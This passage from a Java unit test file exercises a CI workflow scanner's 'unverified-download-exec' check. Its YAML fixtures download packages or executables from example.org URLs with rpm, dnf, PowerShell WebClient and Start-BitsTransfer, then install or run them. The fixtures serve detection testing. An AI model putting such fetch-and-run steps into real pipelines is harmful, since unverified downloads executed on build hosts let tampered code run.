                - run: sudo rpm -ivh https://repo.example.org/a-1.0.rpm      # finds: unverified-download-exec medium
                - run: dnf install -y https://repo.example.org/b.rpm         # finds: unverified-download-exec medium
                - run: |
                    rpm -q a
                    rpm -i ./c.rpm
                    dnf install -y gcc
                    rpm --import https://repo.example.org/KEY
                """).isFoundBy(CHECK);
    }

    @Test
    void findsWhatPowerShellDownloadsByOtherMeans() {
        MarkedYaml.steps("""
                - shell: pwsh
                  run: |
                    (New-Object Net.WebClient).DownloadFile('https://tools.example.org/a.exe', 'a.exe')
                    ./a.exe --install    # finds: unverified-download-exec medium medium-confidence
                - shell: pwsh
                  run: |
                    Start-BitsTransfer -Source https://tools.example.org/b.exe -Destination b.exe
                    ./b.exe              # finds: unverified-download-exec medium medium-confidence
                - shell: pwsh
                  run: |
                    Start-BitsTransfer https://tools.example.org/c.csv c.csv
                    Start-BitsTransfer
                    ./d.exe
                """).isFoundBy(CHECK);
    }
}
